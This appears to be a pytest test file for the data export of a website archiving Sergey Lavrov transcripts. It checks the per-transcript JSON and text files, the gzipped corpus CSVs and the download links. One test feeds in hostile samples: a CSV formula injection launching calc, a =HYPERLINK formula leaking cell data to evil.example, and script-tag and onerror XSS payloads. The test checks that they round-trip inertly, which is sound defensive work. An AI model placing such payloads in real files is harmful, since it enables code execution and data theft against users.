"""The downloadable data (build_scripts/site/export.py): per-transcript .txt and .json, docs/data/, the data page.

Over the seeds: each file against the transcript model, the corpus-wide files against the
per-transcript ones, every spoken word kept; on the built site and the offline copy: the
files are there and each page's Download links reach them; hostile text kept verbatim.
"""
from __future__ import annotations

import csv
import gzip
import io
import json
import posixpath
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from build_scripts.build import generate, load_corpus, render_site
from build_scripts.core.incremental import MANIFEST
from build_scripts.pipeline.render import front_matter
from conftest import SEED_IDS
from hostile import HOSTILE
from pagetext import missing_in_order, words

RECORD_KEYS = ["id", "title", "date", "date_precision", "date_label", "time", "place", "place_id", "event_type",
               "language", "speakers", "counterparts", "source", "topics", "word_count", "questions", "corpus_file",
               "sidecar_file", "copy_of", "translation_of", "translation", "added", "changed", "page", "provenance", "sections"]
CORPUS_COLUMNS = ["id", "title", "date", "date_precision", "date_label", "time", "place", "place_id", "event_type",
                  "language", "speakers", "counterparts", "source_publisher", "source_via", "source_url", "topics", "word_count",
                  "questions", "corpus_file", "sidecar_file", "added", "changed", "page", "txt", "json", "text",
                  "original_id", "original_language", "original_title", "original_page", "original_text"]
TURN_COLUMNS = ["transcript_id", "section_anchor", "section_heading", "turn_number", "kind", "speaker", "label",
                "aside", "speaker_inferred", "first_paragraph_anchor", "paragraph_anchors", "text"]
DATA_FILES = ["data/corpus.jsonl.gz", "data/corpus.csv.gz", "data/turns.csv.gz"]


@pytest.fixture(scope="module")
def files(corpus, rules) -> dict[str, str]:
    return render_site(list(corpus.values()), rules, added={})


def _unpacked(files, name: str) -> str:
    """A compressed data file's text; each is one gzip member (what `gunzip` and pandas expect)."""
    data = files[name]
    assert data[:4] == b"\x1f\x8b\x08\x00" and data[4:8] == bytes(4)  # gzip; no name, no time: reproducible
    return gzip.decompress(data).decode("utf-8")


def _records(files, corpus) -> dict[str, dict]:
    return {tid: json.loads(files[f"transcripts/{tid}.json"]) for tid in corpus}


def _csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _oldest_first(corpus) -> list[str]:
    # ISO dates of any precision sort as text ("2020-11" before "2020-11-05"); undated last
    return sorted(corpus, key=lambda tid: (corpus[tid].value("date") is None, corpus[tid].value("date") or "", tid))


def test_every_transcript_has_its_txt_and_json_beside_its_page(files, corpus):
    assert set(corpus) == set(SEED_IDS)
    for tid in corpus:
        assert f"transcripts/{tid}/index.md" in files
        for kind in ("txt", "json"):
            assert f"transcripts/{tid}.{kind}" in files
    assert set(DATA_FILES + ["data.md"]) <= set(files)


def test_each_json_record_matches_the_transcript_model(files, corpus):
    for tid, rec in _records(files, corpus).items():
        t, fm = corpus[tid], front_matter(corpus[tid])
        assert list(rec) == RECORD_KEYS
        assert rec["id"] == tid and rec["page"] == f"transcripts/{tid}/" and rec["added"] is None and rec["changed"] is None
        assert rec["title"] == " ".join(t.value("title").split())
        for key in ("date", "date_precision", "date_label", "time", "place", "place_id", "event_type", "language", "speakers",
                    "counterparts", "source", "word_count", "questions", "corpus_file", "sidecar_file", "provenance"):
            assert rec[key] == fm[key], (tid, key)
        assert rec["topics"] == [{"slug": m.slug, "name": m.name} for m in t.assigned_topics()]
        assert [s["anchor"] for s in rec["sections"]] == [s.anchor for s in t.sections]
        for section, s in zip(rec["sections"], t.sections):
            assert section["heading"] == s.heading
            assert len(section["turns"]) == len(s.turns)
            for turn, model in zip(section["turns"], s.turns):
                assert (turn["kind"], turn["speaker"], turn["label"], turn["aside"], turn["speaker_inferred"]) == \
                    (model.kind, model.speaker, model.label, model.aside, model.speaker_inferred)
                assert turn["paragraphs"] == [{"anchor": p.anchor, "text": p.text} for p in model.paragraphs]


def test_json_is_one_line_utf8_with_a_final_newline(files, corpus):
    for tid in corpus:
        text = files[f"transcripts/{tid}.json"]
        assert text.endswith("}\n") and text.count("\n") == 1 and "\r" not in text
    atamkulov = files["transcripts/2019-01-28-moscow-lavrov-atamkulov.json"]
    assert "Lavrov’s" in atamkulov and "\\u" not in atamkulov  # UTF-8, not ASCII escapes


def test_jsonl_lines_are_the_per_transcript_json_oldest_first(files, corpus):
    lines = _unpacked(files, "data/corpus.jsonl.gz").split("\n")
    assert lines[-1] == ""  # a final newline
    assert [json.loads(line)["id"] for line in lines[:-1]] == _oldest_first(corpus)
    for line in lines[:-1]:
        assert line + "\n" == files[f"transcripts/{json.loads(line)['id']}.json"]


def test_corpus_csv_has_one_row_per_transcript(files, corpus):
    assert _unpacked(files, "data/corpus.csv.gz").splitlines()[0] == ",".join(f'"{c}"' for c in CORPUS_COLUMNS)
    rows = _csv(_unpacked(files, "data/corpus.csv.gz"))
    assert [row["id"] for row in rows] == _oldest_first(corpus)
    records = _records(files, corpus)
    for row in rows:
        rec, t = records[row["id"]], corpus[row["id"]]
        assert row["title"] == rec["title"] and row["date"] == (rec["date"] or "")
        assert row["speakers"] == "; ".join(p["name"] for p in rec["speakers"])
        assert row["source_url"] == (rec["source"]["url"] or "")
        assert row["topics"] == "; ".join(topic["slug"] for topic in rec["topics"])
        assert int(row["word_count"]) == rec["word_count"]
        assert (row["txt"], row["json"]) == (f"transcripts/{t.id}.txt", f"transcripts/{t.id}.json")
        body, text = words(" ".join(line.text for line in t.body)), words(row["text"])
        inferred = sum(len(words(turn.speaker)) for s in t.sections for turn in s.turns if turn.label is None)
        # every spoken word and label in order; nothing else but "[Sergey Lavrov]" where the source has no label
        assert not missing_in_order(body, text) and len(text) == len(body) + inferred


def test_turns_csv_has_one_row_per_turn(files, corpus):
    rows = _csv(_unpacked(files, "data/turns.csv.gz"))
    assert list(rows[0]) == TURN_COLUMNS
    expected = [(tid, s.anchor, turn) for tid in _oldest_first(corpus) for s in corpus[tid].sections for turn in s.turns]
    assert len(rows) == len(expected)
    numbers: dict[str, int] = {}
    for row, (tid, anchor, turn) in zip(rows, expected):
        numbers[tid] = numbers.get(tid, 0) + 1
        anchors = [p.anchor for p in turn.paragraphs]
        assert (row["transcript_id"], row["section_anchor"], int(row["turn_number"])) == (tid, anchor, numbers[tid])
        assert (row["kind"], row["speaker"], row["label"], row["aside"], row["speaker_inferred"]) == \
            (turn.kind, turn.speaker or "", turn.label or "", turn.aside or "", str(turn.speaker_inferred).lower())
        assert row["paragraph_anchors"].split("; ") == anchors and row["first_paragraph_anchor"] == anchors[0]
        assert row["text"] == "\n\n".join(p.text for p in turn.paragraphs)


def test_every_spoken_word_is_in_the_txt_in_order(files, corpus):
    for tid, t in corpus.items():
        expected = words(" ".join(line.text for line in t.body))
        assert expected and not missing_in_order(expected, words(files[f"transcripts/{tid}.txt"])), tid


def test_txt_header_states_the_facts_and_unknown_where_no_source_does(files):
    interview = files["transcripts/2020-11-interview-russia-kazakhstan-integration.txt"].split("\n")
    assert interview[:12] == [
        "Russia and Kazakhstan have been working together to build up our integration", "",
        "Date: November 2020 (approximate)", "Time: unknown", "Place: unknown", "Event: Interview",
        "Speakers: Sergey Lavrov (Foreign Minister of Russia)", "Counterparts: none named",
        "Source: The Ministry of Foreign Affairs of the Russian Federation",
        "Archive page: transcripts/2020-11-interview-russia-kazakhstan-integration/",
        "Corpus file: corpus/2020-11-interview-russia-kazakhstan-integration.txt", ""]
    talks = files["transcripts/2021-04-08-nur-sultan-lavrov-tleuberdi.txt"]
    assert "\nSource: The Ministry of Foreign Affairs of the Russian Federation; via GlobalSecurity.org\n" in talks
    assert "\n\nOpening remarks\n\n[Sergey Lavrov]: Ladies and gentlemen,\n\n" in talks  # unlabelled in the source
    assert talks.endswith("\n") and not talks.endswith("\n\n") and "\r" not in talks


def test_data_page_lists_every_file_and_field(files, corpus):
    page = files["data.md"]
    assert page.startswith("---\ntitle: Data\n")
    record = next(iter(_records(files, corpus).values()))
    section = record["sections"][0]
    fields = [*record, *section, *section["turns"][0], *section["turns"][0]["paragraphs"][0],
              *record["source"], *CORPUS_COLUMNS, *TURN_COLUMNS]
    for name in fields:
        assert f"`{name}`" in page, name
    for name in DATA_FILES:
        assert f"]({name})" in page
    assert "`transcripts/<id>.txt`" in page and "`transcripts/<id>.json`" in page
    assert "**Licence of the texts: unknown.**" in page and "has no `LICENSE`" in page
    assert f"**{len(corpus)} transcripts of {len(corpus)} events;" in page


def test_two_runs_write_identical_bytes(seed_corpus, tmp_path):
    trees = []
    for out in (tmp_path / "one", tmp_path / "two"):
        assert not generate(seed_corpus, out).errors
        trees.append({p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.name != MANIFEST
                      and (p.suffix in (".txt", ".json", ".gz") or p.name == "data.md")})
    assert len(trees[0]) == 2 * len(SEED_IDS) + 4 and trees[0] == trees[1]


def test_hostile_text_round_trips_verbatim(tmp_path, rules):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for name in ("csv-formula-and-quotes.txt", "script-tag.txt", "sidecar-title-with-script.txt",
                 "sidecar-title-with-script.yml"):
        shutil.copy(HOSTILE / "corpus" / name, corpus / name)
    result = load_corpus(corpus, rules)
    transcripts = result.transcripts
    assert not result.errors and len(transcripts) == 3
    files = render_site(transcripts, rules, added={})
    rows = {row["id"]: row for row in _csv(_unpacked(files, "data/corpus.csv.gz"))}
    turns = _csv(_unpacked(files, "data/turns.csv.gz"))
    for t in transcripts:
        rec = json.loads(files[f"transcripts/{t.id}.json"])
        texts = [p["text"] for s in rec["sections"] for turn in s["turns"] for p in turn["paragraphs"]]
        assert texts == [p.text for s in t.sections for turn in s.turns for p in turn.paragraphs]
        assert [row["text"] for row in turns if row["transcript_id"] == t.id] == \
            ["\n\n".join(p.text for p in turn.paragraphs) for s in t.sections for turn in s.turns]
        assert rows[t.id]["title"] == rec["title"]
    formula = json.loads(files["transcripts/csv-formula-and-quotes.json"])
    paragraphs = [p["text"] for p in formula["sections"][0]["turns"][0]["paragraphs"]]
    assert '",=cmd|\' /C calc\'!A0' in paragraphs[0] and "<script>window.__pwned = 1</script>" in paragraphs[0]
    assert paragraphs[1] == '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    assert "<script>" in rows["script-tag"]["text"] and "&lt;" not in files["transcripts/script-tag.txt"]
    assert json.loads(files["transcripts/sidecar-title-with-script.json"])["title"] == \
        "<script>window.__pwned=1</script><img src=x onerror=alert(1)>"
    assert '"=1+1, is this text shown as it was written?"' in _unpacked(files, "data/turns.csv.gz")  # quoted, not a formula


class _Hrefs(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag == "a" and dict(attrs).get("href"):
            self.hrefs.append(dict(attrs)["href"])


def _hrefs(page: Path) -> list[str]:
    parser = _Hrefs()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser.hrefs


def _download_targets(site: Path, page: Path) -> dict[str, Path]:
    """The .txt and .json files the page links to, resolved as a browser would."""
    where = posixpath.dirname(page.relative_to(site).as_posix())
    return {Path(href).suffix: site / posixpath.normpath(posixpath.join(where, href))
            for href in _hrefs(page) if re.search(r"\.(txt|json)$", href)}


@pytest.mark.parametrize("edition", ["built_site", "offline_copy"])
def test_download_links_reach_the_files_in_both_editions(edition, request, corpus):
    site: Path = request.getfixturevalue(edition)
    docs = site.parent / "docs" if edition == "built_site" else None
    for tid in SEED_IDS:
        page = site / "transcripts" / f"{tid}/index.html"
        targets = _download_targets(site, page)
        assert targets == {".txt": site / "transcripts" / f"{tid}.txt", ".json": site / "transcripts" / f"{tid}.json"}
        for target in targets.values():
            assert target.is_file()
            if docs is not None:
                assert target.read_bytes() == (docs / "transcripts" / target.name).read_bytes()
    data_page = site / ("data/index.html" if edition == "built_site" else "data.html")
    linked = {posixpath.normpath(posixpath.join(posixpath.dirname(data_page.relative_to(site).as_posix()), href))
              for href in _hrefs(data_page)}
    for name in DATA_FILES:
        assert name in linked and (site / name).is_file()
    with gzip.open(site / "data" / "corpus.jsonl.gz", "rt", encoding="utf-8") as jsonl:
        assert [json.loads(line)["id"] for line in jsonl] == _oldest_first(corpus)
